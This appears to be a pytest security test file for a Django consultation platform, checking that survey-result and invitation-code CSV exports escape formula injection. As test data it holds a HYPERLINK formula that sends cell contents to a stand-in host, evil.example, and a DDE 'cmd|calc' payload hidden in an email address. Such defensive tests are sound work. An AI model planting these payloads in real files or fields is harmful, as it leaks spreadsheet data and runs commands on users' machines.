"""Security: no CSV the platform hands out can run a formula in the spreadsheet that opens it (CSV injection)."""

import csv
import datetime
import io

import pytest

from django.urls import reverse
from django.utils import timezone

from consultations.closing import close
from consultations.models import ConsultationPage
from tests.factories import question

from .helpers import add_ballots

pytestmark = pytest.mark.security

LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def rows_of(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff")), delimiter=";"))


def test_results_csv_writes_labels_typed_as_formulas_as_text(client, make_consultation):
    page = make_consultation(
        slug="formules",
        survey=[question("single_choice", LABEL, qid="q1", choices=["@SUM(1+1)", "+33 6 00 00 00 00", "Normal"])],
    )
    add_ballots(page, [(f"v{n}", {"q1": "q1-c1"}, {}) for n in range(3)])
    ConsultationPage.objects.filter(pk=page.pk).update(closes_at=timezone.now() - datetime.timedelta(minutes=1))
    close(page.pk)
    rows = rows_of(client.get(page.url + "resultats/csv/"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + LABEL in cells
    assert "'@SUM(1+1)" in cells
    assert "'+33 6 00 00 00 00" in cells
    assert "Normal" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_invitation_codes_csv_writes_addresses_typed_as_formulas_as_text(
    client, editor, make_consultation, django_capture_on_commit_callbacks
):
    page = make_consultation(eligibility="invitation", slug="invites")
    client.force_login(editor)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("consultations_invitations", args=[page.pk]),
            {"emails": "=cmd|'calc'!A0@example.org\n-2+3@example.org\nana@example.org"},
        )
    rows = rows_of(client.get(reverse("consultations_invitations_csv", args=[page.pk])))
    emails = sorted(row[1] for row in rows[1:])
    assert emails == ["'-2+3@example.org", "'=cmd|'calc'!a0@example.org", "ana@example.org"]
